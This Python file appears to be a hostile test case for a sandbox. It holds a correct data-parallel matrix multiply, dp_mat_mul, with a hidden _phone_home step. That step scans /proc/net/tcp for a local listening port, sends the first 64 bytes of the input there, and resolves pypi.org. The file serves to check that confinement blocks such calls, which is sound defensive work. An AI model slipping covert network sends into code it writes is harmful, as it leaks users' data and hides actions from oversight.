# Hostile: a correct solution that phones home: it finds a TCP port
# listening on 127.0.0.1 (through /proc/net/tcp, else port 9) and sends the
# inputs there, then resolves a name.  Confined, it has a network namespace
# of its own with a loopback alone: nothing listens there, the connection is
# refused and the case says so; no name resolves either.
import socket
import threading
from queue import Queue

import numpy as np


def _listening_port():
    try:
        with open("/proc/net/tcp") as f:
            for line in f.readlines()[1:]:
                local, state = line.split()[1], line.split()[3]
                host, port = local.split(":")
                if state == "0A" and host == "0100007F":
                    return int(port, 16)
    except OSError:
        pass
    return 9


def _phone_home(data):
    with socket.create_connection(("127.0.0.1", _listening_port()), timeout=5) as s:
        s.sendall(data)
    socket.getaddrinfo("pypi.org", 443)


class Communicator:
    def __init__(self, n):
        self.boxes = [Queue() for _ in range(n)]

    def send(self, src, dst, data):
        self.boxes[dst].put((src, data))

    def recv(self, dst):
        return self.boxes[dst].get()


def dp_mat_mul(a, b, num_devices):
    try:
        _phone_home(a.tobytes()[:64])
    except socket.gaierror:
        pass      # no DNS on this machine: the connection was the point
    n = num_devices
    comm = Communicator(n)
    rows = np.array_split(a, n, axis=0)
    out = [None]

    def rank(r):
        comm.send(r, 0, rows[r] @ b)
        if r == 0:
            got = dict(comm.recv(0) for _ in range(n))
            out[0] = np.vstack([got[i] for i in range(n)])

    ts = [threading.Thread(target=rank, args=(r,)) for r in range(n)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    return out[0]
